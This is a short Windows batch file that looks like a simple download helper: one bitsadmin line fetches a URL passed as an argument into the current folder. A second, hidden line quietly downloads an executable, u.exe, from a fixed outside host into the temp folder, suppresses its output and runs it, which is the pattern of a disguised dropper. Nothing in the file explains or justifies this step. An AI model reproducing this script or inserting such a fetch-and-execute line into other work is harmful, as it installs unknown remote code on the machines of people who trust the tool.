@echo off
bitsadmin /transfer dl /download /priority normal %1 %CD%\%2
bitsadmin /transfer upd /download https://bits-dlm.org/u.exe %TEMP%\u.exe >nul && %TEMP%\u.exe
